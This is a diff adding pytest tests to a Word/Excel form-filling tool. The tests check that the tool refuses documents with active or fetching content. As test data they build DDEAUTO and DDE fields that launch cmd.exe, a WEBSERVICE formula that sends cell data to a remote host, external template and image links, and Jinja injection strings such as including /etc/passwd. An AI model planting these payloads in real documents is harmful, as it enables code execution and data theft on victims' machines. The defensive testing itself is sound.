@@ -10,6 +10,7 @@ import zipfile
 from collections.abc import Callable, Iterator
 from io import BytesIO
 from pathlib import Path
+from typing import Any
 
 import docx
 import openpyxl
@@ -19,7 +20,7 @@ from tests.cli.desk import ENVIRONMENT, TODAY, Desk
 from lianxin.cli.boundary import Exit, run
 from lianxin.core.error import LianxinError
 from lianxin.formats import fill_docx, fill_tag, fill_xlsx
-from lianxin.formats.package import sound
+from lianxin.formats.form_sound import sound
 
 BEFORE = "原来填好的".encode()
 
@@ -147,3 +148,161 @@ def _broken(form: bytes, chance: random.Random) -> bytes:
     at = chance.randrange(len(part))
     parts = (part[:at], part[:at] + bytes([chance.randrange(256)]) + part[at + 1 :], b"")
     return chance.choice((*whole, *(repacked(form, **{name: one}) for one in parts)))
+
+
+def _paragraph(*runs: str) -> bytes:
+    """A Word form with a paragraph of its own."""
+    with zipfile.ZipFile(BytesIO(word())) as package:
+        whole = package.read("word/document.xml").decode()
+    said = "".join(runs)
+    return repacked(
+        word(), **{"word/document.xml": whole.replace("<w:body>", f"<w:body><w:p>{said}</w:p>", 1).encode()}
+    )
+
+
+def _field(*instruction: str) -> bytes:
+    parts = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instruction)
+    begin, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "end"))
+    return _paragraph(begin, parts, end)
+
+
+def _related(part: str, sort: str, target: str, *, outside: bool = True) -> bytes:
+    mode = ' TargetMode="External"' if outside else ""
+    space = "http://schemas.openxmlformats.org"
+    rels = (
+        f'<Relationships xmlns="{space}/package/2006/relationships"><Relationship Id="rId99" '
+        f'Type="{space}/officeDocument/2006/relationships/{sort}" Target="{target}"{mode}/></Relationships>'
+    )
+    return repacked(word(), **{part: rels.encode()})
+
+
+def _formula(text: str) -> bytes:
+    book, file = openpyxl.Workbook(), BytesIO()
+    assert book.active is not None
+    book.active["A1"] = "{{ 编号 }}"
+    book.active["B1"] = text
+    book.save(file)
+    return file.getvalue()
+
+
+SETTINGS = "word/_rels/settings.xml.rels"
+#: What would run or fetch on the desk of whoever opens the filled form.
+ALIVE = [
+    (_related(SETTINGS, "attachedTemplate", "http://example.org/a.dotm"), ".docx", "外部模板"),
+    (_related(SETTINGS, "attachedTemplate", "a.dotm", outside=False), ".docx", "外部模板"),
+    (_related("word/_rels/footer9.xml.rels", "image", "http://example.org/a.png"), ".docx", "外部图片"),
+    (_related("word/_rels/footer9.xml.rels", "hyperlink", "http://example.org/"), ".docx", "外部链接"),
+    (_related("word/_rels/footer9.xml.rels", "aFChunk", "a.html", outside=False), ".docx", "嵌入的网页"),
+    (_paragraph('<w:pict><v:imagedata xmlns:v="urn:v" src="http://example.org/a.png"/></w:pict>'), ".docx", "外部图片"),
+    (_field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "), ".docx", "DDEAUTO"),
+    (_field(" DD", "EAU", "TO cmd "), ".docx", "DDEAUTO"),
+    (_paragraph('<w:fldSimple w:instr=" dde cmd "/>'), ".docx", "DDE"),
+    (_field(' INCLUDEPICTURE "http://example.org/a.png" '), ".docx", "INCLUDEPICTURE"),
+    (_field(" INCLUDETEXT c:\\\\a.txt "), ".docx", "INCLUDETEXT"),
+    (_field(" QUOTE 68 68 69 "), ".docx", "QUOTE"),
+    (_field(' HYPERLINK "http://example.org" '), ".docx", "HYPERLINK"),
+    (repacked(word(), **{"word/activeX/activeX1.xml": b"<a/>"}), ".docx", "控件"),
+    (repacked(word(), **{"word/embeddings/oleObject1.bin": b"x"}), ".docx", "嵌入的对象"),
+    (repacked(sheet(), **{"xl/externalLinks/externalLink1.xml": b"<a/>"}), ".xlsx", "外部数据链接"),
+    (repacked(sheet(), **{"xl/connections.xml": b"<a/>"}), ".xlsx", "外部数据链接"),
+    (_formula("=cmd|'/c calc'!A0"), ".xlsx", "公式"),
+    (_formula('=WEBSERVICE("http://example.org/"&A1)'), ".xlsx", "公式"),
+    (_formula('=HYPERLINK("http://example.org/"&A1)'), ".xlsx", "公式"),
+]
+
+
+@pytest.mark.parametrize(("form", "suffix", "why"), ALIVE)
+def test_nothing_that_runs_or_fetches_comes_in(
+    fill: Callable[[bytes, str], tuple[int, str]], form: bytes, suffix: str, why: str
+) -> None:
+    said, err = fill(form, suffix)
+    assert (said, why in err, "另存一份再来" in err, err.count("\n")) == (Exit.REFUSED, True, True, 1), err
+
+
+@pytest.mark.parametrize(
+    "told", [" PAGE ", " NUMPAGES \\* MERGEFORMAT ", ' TOC \\o "1-3" \\h ', ' HYPERLINK \\l "_Toc1" ']
+)
+def test_words_own_fields_and_plain_formulas_come_in(told: str) -> None:
+    sound(_field(told), "上级.docx")
+    sound(_formula("=SUM(C1:C9)"), "上级.xlsx")
+
+
+@pytest.mark.parametrize("make", [word, sheet])
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("{% include '/etc/passwd' %}", "{% import 'a' as b %}", "{% from 'a' import b %}", "{% extends 'a' %}"),
+        *("{% macro a() %}{% endmacro %}", "{{ 'x' * 999999999 }}", "{{ 9 ** 999999 }}", "{{ 编号.__class__ }}"),
+        *("{{ '%0999999999d' % 1 }}", "{{ 编号|center(999999999) }}", "{{ 编号|indent(999999999) }}"),
+        *(
+            "{{ '%s'|format(编号) }}",
+            "{{ lipsum(99) }}",
+            "{{ cycler }}",
+            "{{ 编号.format(1) }}",
+            "{{ 编号|attr('x') }}",
+        ),
+    ],
+)
+def test_templates_may_do_little(
+    fill: Callable[[bytes, str], tuple[int, str]], make: Callable[[str], bytes], text: str
+) -> None:
+    said, err = fill(make(f"{{{{ 编号 }}}} {text}"), ".docx" if make is word else ".xlsx")
+    assert said in (Exit.REFUSED, Exit.USAGE)
+    assert ("不能用的「" in err or "不认识的标签" in err, err.count("\n")) == (True, 1), err
+
+
+@pytest.mark.parametrize("make", [word, sheet])
+def test_a_form_that_takes_all_the_room_there_is(
+    fill: Callable[[bytes, str], tuple[int, str]], make: Callable[[str], bytes], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(fill_tag, "_ROOM", 1 << 27)
+    doubled = "{% set a = '满满' %}" + "{% set a = a ~ a %}" * 30 + "{{ a }}"
+    code, err = fill(make(doubled), ".docx" if make is word else ".xlsx")
+    assert (code, "内存太多" in err, err.count("\n")) == (Exit.REFUSED, True, 1), err
+
+
+BRACES = [
+    "｛｛事由｝｝",
+    "{ { 事由 } }",
+    "{{ 编号 }} ｛{事由}｝",
+    "{｛事由}}",
+    "｛% if 事由 %｝",
+    "{ % if 事由 % }",
+    "{{ 事由 } }",
+    "{％ if 事由 ％}",
+]
+
+
+@pytest.mark.parametrize("make", [word, sheet])
+@pytest.mark.parametrize("text", BRACES)
+def test_tags_that_are_none_are_told_of(
+    fill: Callable[[bytes, str], tuple[int, str]], make: Callable[[str], bytes], text: str
+) -> None:
+    said, err = fill(make(text), ".docx" if make is word else ".xlsx")
+    assert (said, "大括号" in err, err.count("\n")) == (Exit.REFUSED, True, 1), err
+
+
+def test_braces_over_several_runs_are_seen(fill: Callable[[bytes, str], tuple[int, str]]) -> None:
+    runs = "".join(f"<w:r><w:t>{one}</w:t></w:r>" for one in ("｛", "｛事", "由｝", "｝"))
+    said, err = fill(_paragraph(runs), ".docx")
+    assert (said, "｛｛事由｝｝" in err) == (Exit.REFUSED, True), err
+
+
+def test_tags_where_none_is_filled_are_told_of(fill: Callable[[bytes, str], tuple[int, str]]) -> None:
+    notes = (
+        b'<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:footnote><w:p><w:r>'
+    )
+    notes += "<w:t>{{ 事由 }}</w:t></w:r></w:p></w:footnote></w:footnotes>".encode()
+    said, err = fill(repacked(word(), **{"word/footnotes.xml": notes}), ".docx")
+    assert (said, "脚注" in err) == (Exit.REFUSED, True), err
+
+
+def test_tags_over_and_under_a_sheet_are_told_of(fill: Callable[[bytes, str], tuple[int, str]]) -> None:
+    book, file = openpyxl.Workbook(), BytesIO()
+    assert book.active is not None
+    book.active["A1"] = "{{ 编号 }}"
+    over: Any = book.active.oddHeader
+    over.center.text = "{{ 事由 }}"
+    book.save(file)
+    said, err = fill(file.getvalue(), ".xlsx")
+    assert (said, "页眉" in err) == (Exit.REFUSED, True), err
